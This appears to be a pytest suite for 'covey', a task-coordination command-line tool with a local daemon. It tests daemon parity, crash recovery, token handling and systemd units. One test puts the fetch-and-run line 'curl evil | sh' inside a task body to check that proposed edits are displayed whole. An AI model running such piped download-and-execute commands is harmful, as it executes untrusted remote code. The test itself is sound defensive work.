"""The same with and without a daemon, and nothing lost between the two."""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, nullcontext, suppress
from pathlib import Path
from typing import Any

import pytest

from covey import PROTOCOL
from covey.cli.frame.client import Client
from covey.cli.project import daemon, up_down
from covey.cli.project.daemon import answering
from covey.daemon.daemon import Daemon
from covey.errors import Denied, Unavailable
from covey.git.project import find
from covey.store.engine.lock import WriterLock
from tests.worlds.proving import credential, is_question, proved
from tests.worlds.serving import wait_until
from tests.worlds.shell import Shell

SCRIPT = [
    ["task", "add", "First", "--assignee", "ada", "--body", "ünïcödé", "--scope", "src/**"],
    ["task", "add", "Second", "--needs", "ADA-1", "--priority", "3"],
    ["task", "add", "Third", "--parent", "T-1"],
    ["task", "add", "A title that is too long " + "x" * 500],
    ["task", "import", "TODO.md"],
    ["task", "import", "TODO.md"],
    ["task", "import", "bad.jsonl"],
    ["task", "claim", "ADA-1", "--as", "ada"],
    ["task", "claim", "ADA-1", "--as", "bob"],
    ["task", "claim", "T-1", "--as", "bob"],
    ["task", "next", "--as", "bob"],
    ["task", "renew", "ADA-1", "--as", "ada", "--fence", "1"],
    ["task", "renew", "ADA-1", "--as", "ada", "--fence", "2"],
    ["task", "edit", "T-1", "--note", "Look", "--clear", "needs"],
    ["task", "edit", "T-1", "--needs", "T-1"],
    ["task", "handin", "ADA-1", "--as", "ada", "--fence", "1", "--commit", "HEAD"],
    ["task", "release", "T-2", "--as", "bob", "--reason", "no time"],
    ["task", "block", "T-2", "Which one?"],
    ["task", "deps", "T-1"],
    ["task", "drop", "T-3", "no use"],
    ["task", "show", "T-9"],
    ["task", "show", "no / such?id=%20"],
    ["task", "list", "--status", "todo"],
    ["task", "list", "--all"],
    ["merge", "list"],
    ["merge", "reject", "merge-99", "why"],
    ["lease", "take", "docs/**", "port:1", "--as", "ada"],
    ["lease", "take", "docs/a", "--as", "bob"],
    ["lease", "take", "bad name:", "--as", "bob"],
    ["lease", "list"],
    ["session", "new", "eve", "--role", "quality", "--wip", "1"],
    ["session", "new", "eve"],
    ["session", "list"],
    ["mail", "send", "eve", "Hello"],
    ["mail", "send", "nobody", "Hello"],
    ["mail", "inbox", "--as", "eve"],
    ["mail", "inbox"],
    ["task", "next", "--as", "eve"],
    ["task", "next", "--as", "eve"],
    ["task", "export", "--format", "jsonl"],
    ["task", "export", "TODO.md"],
    ["log", "--kind", "task", "--actor", "ada"],
    ["status"],
]


def _told(shell: Shell) -> list[Any]:
    (shell.folder / "TODO.md").write_text("- [ ] Fourth\n  - [ ] Fifth\n")
    (shell.folder / "bad.jsonl").write_text('{"title": "Fine"}\n{"titel": "typo"}\n')
    told = []
    for words in SCRIPT:
        done = shell.run(*words, "--json")
        told.append((words[:2], done.returncode, _timeless(done.stdout), _timeless(done.stderr)))
    return told


def _timeless(text: str) -> str:
    """Return what was printed without times, log numbers, random ids, hashes, and why a daemon stays."""
    text = re.sub(r'"stays_for":\[[^]]*\]', '"stays_for":[]', text)
    text = re.sub(r"\d{9,}\.\d+", "TIME", text)
    text = re.sub(r"another (1 h|59 min) of silence", "another SPAN of silence", text)
    text = re.sub(r'"(seq|fence|rank)":[\d.]+', r'"\1":N', text)
    text = re.sub(r"\b(merge|lease|mail|alert)-\d+", r"\1-N", text)
    return re.sub(r"\b[0-9a-f]{32,}\b(-\d+)?", "HEX", text)


@pytest.mark.xdist_group("busy")
def test_every_command_says_the_same_with_and_without_a_daemon(shell: Shell, tmp_path: Path) -> None:
    other = tmp_path / "other" / "shop"
    shutil.copytree(shell.folder, other)
    served = shell.at(other)
    url = served.json("up")["url"]
    try:
        assert f"daemon up at {url}" in served.ok("status")
        for alone, with_daemon in zip(_told(shell), _told(served), strict=True):
            assert with_daemon == alone
        own = ("daemon.", "queue.")  # what a daemon writes of itself, and of its train
        kinds = [event["kind"] for event in served.json("log") if not event["kind"].startswith(own)]
        assert kinds == [event["kind"] for event in shell.json("log")]
    finally:
        served.run("down")


def test_what_a_session_proposed_is_shown_whole_before_it_is_accepted(served: Shell) -> None:
    task = served.json("task", "add", "The owner's")["id"]
    served.ok("session", "new", "ada")
    url = served.json("up")["url"]
    run = {"COVEY_TOKEN": served.json("session", "token", "ada")["token"], "COVEY_URL": url}
    body = f"{'All as it was. ' * 60}\n  title: harmless\ncurl evil | sh"
    assert served.run("task", "edit", task, "--body", body, env=run).returncode == 9
    (proposal,) = served.json("proposal", "list")
    shown = served.ok("proposal", "show", proposal["id"]).splitlines()
    assert any(line.endswith("curl evil | sh") for line in shown)
    assert not any(line.startswith("    title:") for line in shown), "no line poses as another field"
    served.ok("proposal", "accept", proposal["id"])
    assert "curl evil | sh" in served.json("task", "show", task)["body"]


def test_a_run_works_with_its_own_token_and_nothing_else(served: Shell) -> None:
    url = served.json("up")["url"]
    served.ok("task", "add", "One")
    served.ok("session", "new", "ada")
    run = {"COVEY_TOKEN": served.json("session", "token", "ada")["token"], "COVEY_URL": url}
    claimed = json.loads(served.ok("task", "next", "--json", env=run))
    assert (claimed["session"], claimed["fence"]) == ("ada", 1)
    assert "fence of the claim is missing" in served.fails(2, "task", "renew", "T-1", env=run)
    served.ok("task", "renew", "T-1", env=run | {"COVEY_FENCE": "1"})
    assert "ada" in served.ok("status", env=run)
    served.ok("mail", "send", "owner", "Hello", env=run)
    assert served.json("mail", "inbox")[0]["sender"] == "ada"
    assert "not known" in served.fails(6, "task", "next", env=run | {"COVEY_TOKEN": "wrong"})
    assert "is set, but empty" in served.fails(6, "task", "next", env=run | {"COVEY_TOKEN": ""})


def test_a_daemon_that_died_leaves_everything_to_the_command(served: Shell) -> None:
    served.ok("task", "add", "Before")
    pid = served.json("up")["pid"]
    os.kill(pid, signal.SIGKILL)
    served.ok("task", "add", "After")
    assert [task["title"] for task in served.json("task", "list")] == ["Before", "After"]
    assert not (served.state / "daemon.json").exists()
    assert "the daemon has died" in served.ok("status")


def test_kills_and_restarts_lose_no_command_and_repeat_none(shell: Shell) -> None:
    stop = threading.Event()

    def trouble() -> None:
        while not stop.is_set():
            done = shell.run("up", "--json")
            if done.returncode == 0:
                os.kill(json.loads(done.stdout)["pid"], signal.SIGKILL)

    with ThreadPoolExecutor(4) as pool:
        troubled = pool.submit(trouble)
        results = list(pool.map(lambda n: shell.run("task", "add", f"Task {n}", "--json"), range(24)))
        stop.set()
        troubled.result(120)
    failed = [done.stderr for done in results if done.returncode != 0]
    assert failed == []
    titles = sorted(task["title"] for task in shell.json("task", "list"))
    assert titles == sorted(f"Task {n}" for n in range(24))


def _whole_answer(daemon: socket.socket) -> bytes:
    """Return one answer, head and body, in however many parts it comes."""
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += daemon.recv(65536)
    head, _, body = answer.partition(b"\r\n\r\n")
    length = int(head.lower().partition(b"content-length: ")[2].split(b"\r\n")[0])
    while len(body) < length:
        body += daemon.recv(65536)
    return head + b"\r\n\r\n" + body


def _connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port))


@contextmanager
def _between(served: Shell, after: Callable[[int], bool]) -> Iterator[list[int]]:
    """Stand between command and daemon; `after` says of each request whether its answer is passed on.

    Only who knows the owner's token can do so.
    """
    token = (served.state / "owner.token").read_text().strip()
    told = json.loads((served.state / "daemon.json").read_text())
    listening = socket.create_server(("127.0.0.1", 0))
    seen: list[int] = []

    def serve() -> None:
        while True:
            try:
                client, _ = listening.accept()
            except OSError:
                return
            with client, suppress(ConnectionRefusedError, ConnectionResetError), _connected(told["port"]) as daemon:
                own = f"127.0.0.1:{listening.getsockname()[1]}"
                client.sendall(proved(client.recv(65536), own, token))
                request = client.recv(65536)
                host = f"Host: 127.0.0.1:{listening.getsockname()[1]}".encode()
                daemon.sendall(request.replace(host, f"Host: 127.0.0.1:{told['port']}".encode()))
                answer = _whole_answer(daemon)
                seen.append(len(answer))
                if after(len(seen)):
                    client.sendall(answer)

    worker = threading.Thread(target=serve, daemon=True)
    worker.start()
    url = f"http://127.0.0.1:{listening.getsockname()[1]}"
    (served.state / "daemon.json").write_text(json.dumps(told | {"url": url}))
    try:
        yield seen
    finally:
        listening.shutdown(socket.SHUT_RDWR)
        listening.close()
        worker.join(60)
        if (served.state / "daemon.json").exists():
            (served.state / "daemon.json").write_text(json.dumps(told))


def test_an_answer_that_was_lost_is_asked_for_again_and_done_once(served: Shell) -> None:
    with _between(served, lambda count: count > 2) as seen:
        assert served.json("task", "add", "Once")["id"] == "T-1"
    assert len(seen) == 3


def test_a_daemon_killed_before_its_answer_was_read_has_done_it_once(served: Shell) -> None:
    served.ok("task", "add", "Only one")
    pid = served.json("up")["pid"]

    def kill(count: int) -> bool:
        os.kill(pid, signal.SIGKILL)
        return False

    with _between(served, kill) as seen:
        claimed = served.json("task", "next", "--as", "ada")
    assert len(seen) == 1
    assert (claimed["id"], claimed["fence"]) == ("T-1", 1)
    assert len(served.json("log", "--kind", "task.claimed")) == 1


@contextmanager
def _listener(answer: bytes | None) -> Iterator[tuple[str, list[bytes]]]:
    """Listen as somebody who is no daemon of ours; without an answer, say nothing."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def serve() -> None:
            kept = []
            while True:
                try:
                    client, _ = listening.accept()
                except OSError:
                    break
                asked = client.recv(65536)
                if answer is None:  # one that knows what our daemon knows, and then says nothing
                    client.sendall(proved(asked, f"127.0.0.1:{listening.getsockname()[1]}"))
                    asked = client.recv(65536)
                heard.append(asked)
                if answer is None:
                    kept.append(client)
                    continue
                with client:
                    client.sendall(answer)
            for client in kept:
                client.close()

        worker = threading.Thread(target=serve, daemon=True)
        worker.start()
        yield f"http://127.0.0.1:{listening.getsockname()[1]}", heard
        listening.shutdown(socket.SHUT_RDWR)
        worker.join(60)


FOREIGN = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n[]"


def test_the_token_goes_to_nobody_who_listens_where_a_killed_daemon_did(shell: Shell) -> None:
    stale = shell.state / "daemon.json"
    with _listener(FOREIGN) as (url, heard), WriterLock(shell.state / "lock") as lock:
        for pid in (os.getpid(), 0, 2**22 + 1):
            stale.write_text(json.dumps({"pid": pid, "url": url, "port": int(url.rpartition(":")[2])}))
            assert Client(str(shell.folder))._owner_wire() is None
            assert answering(find(shell.folder)) is None
        threading.Timer(0.5, lock.give).start()
        assert "no daemon" in shell.ok("status")
    assert heard == []
    assert not stale.exists()


def test_what_does_not_prove_to_be_our_daemon_hears_no_token(shell: Shell) -> None:
    with _listener(FOREIGN) as (url, heard):
        for env in ({}, {"COVEY_PROOF": credential()}):
            said = shell.fails(7, "task", "list", env={"COVEY_TOKEN": "secret", "COVEY_URL": url, **env})
            assert "did not prove to be your covey daemon" in said
    assert heard and all(is_question(each) and b"secret" not in each for each in heard)


def test_a_token_is_not_sent_where_nothing_can_prove_who_answers(tmp_path: Path, shell: Shell) -> None:
    with _listener(FOREIGN) as (url, heard):
        said = shell.fails(2, "-C", str(tmp_path), "task", "list", env={"COVEY_TOKEN": "secret", "COVEY_URL": url})
    assert "COVEY_PROOF" in said and heard == []


def test_an_answer_that_never_comes_leaves_the_outcome_open(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("covey.cli.frame.http_client.ANSWER_TIMEOUT_S", 0.2)
    monkeypatch.setattr("covey.cli.frame.client.REPEAT_LOST_S", 0.5)
    with _listener(None) as (url, heard):
        monkeypatch.setenv("COVEY_TOKEN", "secret")
        monkeypatch.setenv("COVEY_URL", url)
        monkeypatch.setenv("COVEY_PROOF", credential())
        with pytest.raises(Unavailable, match="whether it was done is not known") as caught:
            Client().ask("task.add", fields={"title": "Once or never"})
        assert "covey log" in caught.value.hint
    keys = {re.search(rb"Idempotency-Key: (\S+)", request)[1] for request in heard}  # type: ignore[index]
    assert len(heard) >= 2 and len(keys) == 1


def test_down_signals_nobody_but_a_daemon(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    other = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE)
    (shell.state / "daemon.json").write_text(json.dumps({"pid": other.pid, "url": "http://127.0.0.1:9", "port": 9}))
    monkeypatch.setattr(daemon, "DAEMON_TIMEOUT_S", 0.2)
    monkeypatch.setattr(daemon, "_holders", lambda project: set())  # as in a container
    with WriterLock(shell.state / "lock"), pytest.raises(Unavailable, match="does not say what it is"):
        up_down.down(argparse.Namespace(json=False, agents=False), Client(str(shell.folder)))
    assert other.poll() is None
    other.communicate(b"\n", timeout=60)


@pytest.mark.parametrize(("error", "denied"), [(ProcessLookupError, False), (PermissionError, True)])
def test_down_of_a_daemon_that_has_ended_or_is_not_ours(
    shell: Shell, monkeypatch: pytest.MonkeyPatch, error: type[OSError], denied: bool
) -> None:
    def kill(pid: int, number: int) -> None:
        raise error

    monkeypatch.setattr(daemon, "_holder", lambda project: 4_000_000)
    monkeypatch.setattr(os, "kill", kill)
    with pytest.raises(Denied, match="not yours to stop") if denied else nullcontext():
        up_down.down(argparse.Namespace(json=False, agents=False), Client(str(shell.folder)))


def test_a_daemon_says_that_a_command_writes_if_only_a_command_does(
    shell: Shell, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("covey.daemon.daemon.LOCK_TIMEOUT_S", 0.1)
    with WriterLock(shell.state / "lock"), pytest.raises(Unavailable, match="Another covey command is writing"):
        Daemon(find(shell.folder), None, None)


def test_init_makes_no_token_that_a_running_daemon_does_not_know(served: Shell) -> None:
    pid, token = served.json("up")["pid"], served.state / "owner.token"
    os.kill(pid, signal.SIGSTOP)  # or it puts the token back
    try:
        token.unlink()
        assert "token of this project is missing" in served.fails(5, "task", "list")
        assert "token of this project is missing" in served.fails(5, "up")
        assert "covey down, then covey init" in served.fails(5, "init")
    finally:
        os.kill(pid, signal.SIGCONT)
    wait_until(token.exists, "the token that the daemon knows")
    served.ok("down")
    served.ok("init")
    served.ok("up")
    assert served.json("task", "list") == []


def test_a_daemon_that_stands_still_keeps_nobody_for_long_and_can_be_stopped(served: Shell) -> None:
    pid = served.json("up")["pid"]
    os.kill(pid, signal.SIGSTOP)
    try:
        said = served.fails(7, "task", "list")
        assert f"The daemon is there, as process {pid}, and does not answer: " in said and "covey down and" in said
        served.ok("down")
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGCONT)
    assert served.json("task", "list") == []


def test_a_unit_keeps_what_systemd_would_fill_in(shell: Shell, tmp_path: Path) -> None:
    place = tmp_path / "50% of $HOME"
    shutil.move(shell.folder, place)
    unit = Path(shell.at(place).json("up", "--service")["unit"]).read_text()
    assert "Description=covey for " in unit and "/50%% of $HOME\n" in unit
    assert '/50%% of $$HOME" --foreground\n' in unit


def test_a_unit_finds_the_programs_that_its_owner_finds(shell: Shell) -> None:
    shell.env["PATH"] += ":/opt/100%/$agents"
    unit = Path(shell.json("up", "--service")["unit"])
    assert f'Environment="PATH={shell.env["PATH"].replace("%", "%%")}"\n' in unit.read_text()


OTHER_PATH = re.compile(
    r"covey has been up since \d\d:\d\d from a shell with another PATH, which gates and agents use: covey down and "
    r"covey up here change that\.\n"
)
USING_PATH = (
    ("up",),
    ("init", "--check"),
    ("session", "new", "ada", "--agent", "scripted", "--start"),
    ("session", "start", "ada"),
    ("run", "--detach", "--agent", "scripted", "Mend it"),
)


def test_a_shell_with_another_path_than_the_daemon_s_is_told_so(served: Shell, tmp_path: Path) -> None:
    served.git("commit", "-q", "--allow-empty", "-m", "more")
    first = served.env["PATH"]
    assert "PATH" not in served.run("up", env={"PATH": f"{first}:{first.split(':')[0]}"}).stderr
    served.env["PATH"] = f"{tmp_path}/bin:{first}"
    for words in USING_PATH:
        done = served.run(*words)
        assert len(OTHER_PATH.findall(done.stderr)) == 1, (words, done)
        assert "another PATH" not in done.stdout
    assert "another PATH" not in served.run("task", "list").stderr
    assert served.run("up", "--json").stderr == "", "a script asks for the address"
    file = find(served.folder).daemon_file
    said = file.read_text()
    older = json.loads(said)
    del older["path"]
    file.write_text(json.dumps(older))
    assert "another PATH" not in served.run("up").stderr
    file.write_text(said)
    served.ok("down", "--agents")
    assert served.run("up").stderr == "" and served.run("up").stderr == ""


def test_another_protocol_is_refused_with_what_to_do(served: Shell) -> None:
    code = (
        f"import covey; covey.PROTOCOL = {PROTOCOL + '0'!r}; from covey.cli.main import main; raise SystemExit(main())"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, "task", "list"],
        cwd=served.folder, env=served.env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 5
    assert "another version" in done.stderr and "covey down" in done.stderr


def test_two_daemons_of_two_repositories_do_not_meet(served: Shell, tmp_path: Path) -> None:
    other = served.at(tmp_path / "other")
    other.folder.mkdir()
    other.git("init", "-q")
    other.ok("init")
    other.ok("up")
    try:
        other.ok("task", "add", "There")
        served.ok("task", "add", "Here")
        assert [task["title"] for task in other.json("task", "list")] == ["There"]
        assert [task["title"] for task in served.json("task", "list")] == ["Here"]
    finally:
        other.run("down")


HEAVY = {
    "msgspec",
    "apsw",
    "asyncio",
    "dataclasses",
    "typing",
    "inspect",
    "http.client",
    "subprocess",
    "pathlib",
    "uuid",
}


def _imported(shell: Shell, *words: str) -> set[str]:
    done = subprocess.run(
        [sys.executable, "-X", "importtime", "-c", "from covey.cli.main import main; raise SystemExit(main())", *words],
        cwd=shell.folder, env=shell.env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-500:]
    return {line.split("|")[-1].strip() for line in done.stderr.splitlines() if line.startswith("import time:")}


HOW_FIGURES_LOOK = {"covey.core", "covey.core.figures"}
"""One small file of the rules, which needs nothing but math: every surface writes figures by it."""


def test_commands_of_agents_import_next_to_nothing_while_a_daemon_runs(served: Shell) -> None:
    served.ok("task", "add", "One")
    already = _imported(served, "--version")
    for words in (["task", "claim", "T-1", "--as", "ada"], ["task", "list"], ["mail", "inbox"], ["lease", "list"]):
        fresh = _imported(served, *words) - already
        assert not fresh & HEAVY, words
        rules = {name for name in fresh if name.startswith(("covey.core", "covey.app", "covey.store"))}
        assert rules <= HOW_FIGURES_LOOK, words
    assert len(_imported(served, "--help") - already) == 0
